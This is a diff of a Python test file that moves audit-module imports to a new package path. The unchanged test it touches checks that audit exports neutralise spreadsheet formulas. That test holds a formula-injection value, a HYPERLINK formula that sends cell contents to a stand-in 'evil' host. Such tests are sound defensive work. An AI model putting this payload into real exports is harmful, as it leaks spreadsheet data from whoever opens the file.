@@ -40,8 +40,8 @@ def test_the_writer_neutralises_every_cell() -> None:
 
 
 def test_the_audit_export_neutralises_formulas(services) -> None:
-    from runner import audit
-    from runner.audit import export
+    from runner.core import audit
+    from runner.core.audit import export
 
     with services.transaction() as s:
         audit.record(s, "login_failed", actor='=HYPERLINK("http://evil/?"&A1,"更多")', reason="password")
